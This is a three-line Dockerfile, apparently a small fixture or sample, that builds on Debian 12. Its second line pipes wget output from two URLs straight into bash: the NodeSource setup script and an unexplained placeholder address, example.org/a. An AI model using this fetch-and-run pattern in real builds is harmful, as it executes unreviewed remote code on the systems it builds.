FROM debian:12
RUN wget -qO- https://example.org/a https://deb.nodesource.com/setup_20.x | bash -
RUN make two
